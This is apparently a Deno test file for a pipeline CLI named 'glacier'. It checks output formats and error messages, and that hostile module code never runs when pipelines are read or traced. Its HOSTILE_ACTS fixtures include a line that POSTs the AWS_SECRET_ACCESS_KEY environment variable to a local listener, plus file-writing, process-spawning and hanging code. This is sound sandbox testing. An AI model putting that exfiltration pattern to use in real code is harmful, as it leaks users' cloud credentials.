import assert from "node:assert/strict";
import { fileURLToPath } from "node:url";
import { glacier } from "./support/cli.ts";

const ROOT = fileURLToPath(new URL("../", import.meta.url));
const FIXTURES = "tests/fixtures/analyze";

Deno.test("glacier analyze --json prints the pipelines with nodes, edges, executors, data and cost", async () => {
  const { code, stdout, stderr } = await glacier(["analyze", `${FIXTURES}/sequential.ts`, "--json"]);
  assert.equal(code, 0, stderr);
  const json = JSON.parse(stdout);
  assert.deepEqual(Object.keys(json), ["pipelines"]);
  assert.equal(json.pipelines.length, 1);
  const p = json.pipelines[0];
  assert.deepEqual(Object.keys(p), [
    "name",
    "nodes",
    "edges",
    "executors",
    "dataSources",
    "dataSinks",
    "cost",
    "undecided",
    "warnings",
  ]);
  assert.equal(p.name, "sequential");
  assert.deepEqual(p.nodes.map((n: { id: string }) => n.id), ["extract", "clean", "enrich", "save"]);
  assert.deepEqual(p.nodes[1].task, "clean");
  assert.deepEqual(p.nodes[1].executor, "lambda");
  assert.deepEqual(p.edges[0], { from: "extract", to: "clean" });
  assert.deepEqual(p.executors.map((e: { name: string }) => e.name), ["local", "lambda", "databricks"]);
  assert.deepEqual(p.dataSources[0].uri, "s3://data-lake/raw/orders.parquet");
  assert.deepEqual(p.dataSinks[0].uri, "s3://data-lake/output/orders.parquet");
  assert.equal(p.cost.currency, "USD");
  assert.ok(p.cost.perRun > 0 && Array.isArray(p.cost.assumptions));
});

Deno.test("glacier analyze prints a readable summary by stages and analyzes every exported pipeline", async () => {
  const { code, stdout } = await glacier(["analyze", `${FIXTURES}/clouds.ts`, "--schedule", "0 * * * *"]);
  assert.equal(code, 0);
  for (const name of ["gcp_pipeline", "azure_pipeline", "local_pipeline"]) {
    assert.ok(stdout.includes(`"${name}"`));
  }
  assert.match(stdout, /stage 1\n {4}readA \[cloud_function\]/);
  assert.match(stdout, /Data sinks:\n {2}azWrite → az:\/\/container\/out\/b\.csv/);
  assert.match(stdout, /Cost: .* per month \(730 runs\)/);
});

Deno.test("glacier analyze reports what it could not decide, and --trace follows one run", async () => {
  const stat = await glacier(["analyze", `${FIXTURES}/undecided.ts`]);
  assert.equal(stat.code, 0);
  assert.match(
    stat.stdout,
    /undecided\.ts:\d+:\d+: the task called by "pick\(\.\.\.\)" is chosen at run time/,
  );
  const traced = await glacier([
    "analyze",
    `${FIXTURES}/undecided.ts`,
    "--trace",
    "--params",
    "fast=true",
    "--json",
  ]);
  assert.equal(traced.code, 0, traced.stderr);
  const ids = JSON.parse(traced.stdout).pipelines[0].nodes.map((n: { id: string }) => n.id);
  assert.deepEqual(ids, ["load", "quick", "quick#2", "save"]);
});

// A module whose top level does what a hostile or careless one would: writes a
// file, spawns a process, sends a secret from the environment to a listener,
// exits, or hangs. Commands that read pipelines must do none of it.
const HOSTILE_ACTS = {
  write: (dir: string) => `Deno.writeTextFileSync(${JSON.stringify(`${dir}/written`)}, "x");`,
  spawn: (dir: string) =>
    `new Deno.Command("touch", { args: [${JSON.stringify(`${dir}/spawned`)}] }).outputSync();`,
  exfiltrate: (_dir: string, port: number) =>
    `await fetch("http://127.0.0.1:${port}/", { method: "POST", body: Deno.env.get("AWS_SECRET_ACCESS_KEY") ?? "none" });`,
  exit: () => "Deno.exit(42);",
  hang: () => "while (true) { /* spin */ }",
} as const;

// Inside the project, as a user's module is (the build packs project modules).
async function projectTempDir(): Promise<string> {
  await Deno.mkdir(`${ROOT}.glacier/tmp`, { recursive: true });
  return await Deno.makeTempDir({ dir: `${ROOT}.glacier/tmp` });
}

// A listener on loopback that records what a module sends it.
function listener(): { server: Deno.HttpServer<Deno.NetAddr>; received: string[] } {
  const received: string[] = [];
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, async (req) => {
    received.push(await req.text());
    return new Response("ok");
  });
  return { server, received };
}

async function hostileModule(act: keyof typeof HOSTILE_ACTS, dir: string, port: number): Promise<string> {
  const file = `${dir}/pipeline_${act}.ts`;
  await Deno.writeTextFile(
    file,
    `import { AwsConfig, LambdaConfig, pipeline, Provider } from ${JSON.stringify(`${ROOT}mod.ts`)};
${HOSTILE_ACTS[act](dir, port)}
const aws = new Provider({ config: new AwsConfig({ region: "us-east-1" }) });
const fn = aws.serverless({ config: new LambdaConfig({ memory: 512 }) });
const add = fn.task(function add(a: number, b: number) { return a + b; });
export const hostile = pipeline({ name: "hostile" }, () => add(add(1, 2), 3));
await hostile.run();
`,
  );
  return file;
}

Deno.test("glacier analyze, graph, generate, deploy and build read the file: its top level never runs", async () => {
  const dir = await projectTempDir();
  const { server, received } = listener();
  try {
    const commands = [
      ["analyze", "--json"],
      ["graph", "--format", "dot"],
      ["generate", "--format", "terraform"],
      ["deploy", "--orchestrator", "airflow"],
      ["build", "--output-dir", dir],
    ];
    for (const act of Object.keys(HOSTILE_ACTS) as (keyof typeof HOSTILE_ACTS)[]) {
      const file = await hostileModule(act, dir, server.addr.port);
      // One build is enough to show it reads the module (each packs ~60 MB).
      for (const [command, ...rest] of commands.filter(([c]) => c !== "build" || act === "exit")) {
        const { code, stdout, stderr } = await glacier([command, file, ...rest], {
          env: { AWS_SECRET_ACCESS_KEY: "GlacierHostileSecret" },
        });
        assert.equal(code, 0, `${act} / ${command}: ${stderr}`);
        if (command === "analyze") assert.equal(JSON.parse(stdout).pipelines[0].nodes.length, 2);
      }
    }
    const left = [...Deno.readDirSync(dir)].map((e) => e.name).filter((n) =>
      !n.endsWith(".ts") && n !== ".glacier"
    );
    assert.deepEqual(left, [], "the module's top level wrote or spawned something");
    assert.deepEqual(received, [], "the module's top level reached the network");
  } finally {
    await server.shutdown();
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("glacier analyze --trace runs the module in a sandbox: no write, run, env or net, and a timeout", async () => {
  const dir = await projectTempDir();
  const { server, received } = listener();
  try {
    const expected: Record<keyof typeof HOSTILE_ACTS, RegExp> = {
      write: /Cannot trace pipeline "hostile".*Requires write access.*read access to the project only/,
      spawn: /Cannot trace pipeline "hostile".*Requires run access/,
      exfiltrate: /Cannot trace pipeline "hostile".*Requires (env|net) access/,
      exit: /Cannot trace pipeline "hostile".*exited with code 42/,
      hang: /Tracing pipeline "hostile" .* did not finish in 3 s, so it was stopped/,
    };
    for (const act of Object.keys(HOSTILE_ACTS) as (keyof typeof HOSTILE_ACTS)[]) {
      const file = await hostileModule(act, dir, server.addr.port);
      const { code, stderr } = await glacier(["analyze", file, "--trace"], {
        env: { AWS_SECRET_ACCESS_KEY: "GlacierHostileSecret", GLACIER_TRACE_TIMEOUT_MS: "3000" },
      });
      assert.equal(code, 1, `${act}: ${stderr}`);
      assert.match(stderr.replaceAll("\n", " "), expected[act]);
      assert.match(stderr, /runs .* in a subprocess that may only read the project/);
    }
    const left = [...Deno.readDirSync(dir)].map((e) => e.name).filter((n) => !n.endsWith(".ts"));
    assert.deepEqual(left, []);
    assert.deepEqual(received, []);
    // A well-behaved module traces: its top-level run() is a no-op and no task body runs.
    const file = `${dir}/pipeline_ok.ts`;
    await Deno.writeTextFile(
      file,
      `import { pipeline, Provider } from ${JSON.stringify(`${ROOT}mod.ts`)};
const local = new Provider().local();
const boom = local.task(function boom(n: number): number { throw new Error("task ran " + n); });
export const ok = pipeline({ name: "ok" }, (p: { twice?: boolean }) => p.twice ? boom(boom(1)) : boom(1));
await ok.run();
`,
    );
    const traced = await glacier(["analyze", file, "--trace", "--json", "--params", "twice=true"]);
    assert.equal(traced.code, 0, traced.stderr);
    const ids = JSON.parse(traced.stdout).pipelines[0].nodes.map((n: { id: string }) => n.id);
    assert.deepEqual(ids, ["boom", "boom#2"]);
  } finally {
    await server.shutdown();
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("glacier graph prints Mermaid, DOT and SVG", async () => {
  const file = `${FIXTURES}/conditional.ts`;
  const mermaid = await glacier(["graph", file]);
  assert.equal(mermaid.code, 0);
  assert.match(mermaid.stdout, /^flowchart LR/);
  const dot = await glacier(["graph", file, "--format", "dot"]);
  assert.match(dot.stdout, /^digraph "conditional"/);
  assert.match(dot.stdout, /"heavy" \[.*shape=hexagon/);
  const svg = await glacier(["graph", file, "--format", "svg"]);
  assert.equal(svg.code, 0, svg.stderr);
  assert.match(svg.stdout, /<svg/);
  assert.ok(svg.stdout.includes("<title>light</title>"));
});

Deno.test("glacier graph --output-dir writes the picture and prints its path", async () => {
  const dir = await Deno.makeTempDir();
  try {
    const { code, stdout } = await glacier([
      "graph",
      `${FIXTURES}/fan_out.ts`,
      "--format",
      "dot",
      "--output-dir",
      dir,
    ]);
    assert.equal(code, 0);
    assert.equal(stdout.trim(), `${dir}/fan_out.dot`);
    assert.match(await Deno.readTextFile(`${dir}/fan_out.dot`), /"load" -> "byRegion"/);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("glacier run prints the result, and exits 1 when the pipeline fails", async () => {
  const ok = await glacier([
    "run",
    `${FIXTURES}/failing.ts`,
    "--pipeline",
    "passing",
    "--params",
    "n=41",
    "--workers",
    "0",
  ]);
  assert.equal(ok.code, 0, ok.stderr);
  assert.equal(ok.stdout.trim(), "42");
  const failed = await glacier(["run", `${FIXTURES}/failing.ts`, "--pipeline", "failing", "--workers", "0"]);
  assert.equal(failed.code, 1);
  assert.match(failed.stderr, /this task always fails/);
});

Deno.test("glacier build of a pipeline with nothing to package exits 1 and says how to bind a task", async () => {
  const { code, stdout, stderr } = await glacier([
    "build",
    `${FIXTURES}/vm_only.ts`,
  ]);
  assert.equal(code, 1);
  assert.equal(stdout, "");
  assert.match(
    stderr,
    /Pipeline "vm_only" has no task bound to a Lambda resource, a Cloud Run function, an Azure function app, to Databricks or to this machine on AWS, so there is nothing to build; bind a task with provider\.serverless/,
  );
});

Deno.test("glacier generate of a pipeline that runs only on this machine exits 1 and says why", async () => {
  const { code, stdout, stderr } = await glacier([
    "generate",
    `${FIXTURES}/fan_out.ts`,
    "--format",
    "pulumi",
  ]);
  assert.equal(code, 1);
  assert.equal(stdout, "");
  assert.match(stderr, /Cannot generate pulumi for pipeline "fan_out": it runs only on this machine/);
});

Deno.test("glacier --help and <command> --help print usage and exit 0", async () => {
  const top = await glacier(["--help"]);
  assert.equal(top.code, 0);
  for (const c of ["run", "analyze", "graph", "build", "generate", "deploy"]) {
    assert.ok(top.stdout.includes(c));
  }
  const graph = await glacier(["graph", "--help"]);
  assert.equal(graph.code, 0);
  assert.match(graph.stdout, /Usage: glacier graph <file\.ts>/);
  assert.match(graph.stdout, /mermaid \| dot \| svg/);
  const generate = await glacier(["generate", "--help"]);
  assert.match(generate.stdout, /terraform \| cloudformation \| pulumi/);
});

Deno.test("glacier exits 2 with a clear message on bad usage", async () => {
  const cases: [string[], RegExp][] = [
    [[], /Usage: glacier <command>/],
    [["explode", "x.ts"], /Unknown command "explode"/],
    [["analyze"], /needs a pipeline file/],
    [["analyze", `${FIXTURES}/missing.ts`], /No such file ".*missing\.ts"/],
    [["analyze", `${FIXTURES}/no_pipeline.ts`], /exports no pipeline/],
    [["graph", `${FIXTURES}/clouds.ts`], /exports 3 pipelines .*choose one with --pipeline/],
    [["analyze", `${FIXTURES}/same_name.ts`, "--pipeline", "twin"], /--pipeline "twin" is ambiguous/],
    [["analyze", `${FIXTURES}/fan_out.ts`, "--pipeline", "nope"], /has no pipeline "nope"; it has "fan_out"/],
    [["graph", `${FIXTURES}/fan_out.ts`, "--format", "png"], /Unknown format "png".*mermaid, dot, svg/],
    [["run", `${FIXTURES}/fan_out.ts`, "--format", "dot"], /"glacier run" takes no --format/],
    [["run", `${FIXTURES}/fan_out.ts`, "--params", "novalue"], /--params "novalue" is not key=value/],
    [["analyze", `${FIXTURES}/fan_out.ts`, "--bogus"], /Unknown option '--bogus'/],
  ];
  for (const [args, message] of cases) {
    const { code, stderr } = await glacier(args);
    assert.equal(code, 2, `${args.join(" ")}: ${stderr}`);
    assert.match(stderr, message, args.join(" "));
  }
});

Deno.test("glacier deploy --apply reaches Glacier's Step Functions applier for a pipeline it only read", async () => {
  // aws_no_account.ts's AwsConfig has no accountId: with the applier wired, apply stops at the unknown role
  // (without it, it would stop earlier at "apply is available for step_functions").
  const { code, stderr } = await glacier([
    "deploy",
    "tests/fixtures/codegen/aws_no_account.ts",
    "--orchestrator",
    "step_functions",
    "--apply",
  ]);
  assert.equal(code, 1, stderr);
  assert.match(stderr, /the state machine's role is unknown/);
  assert.doesNotMatch(stderr, /apply is available for/);
});
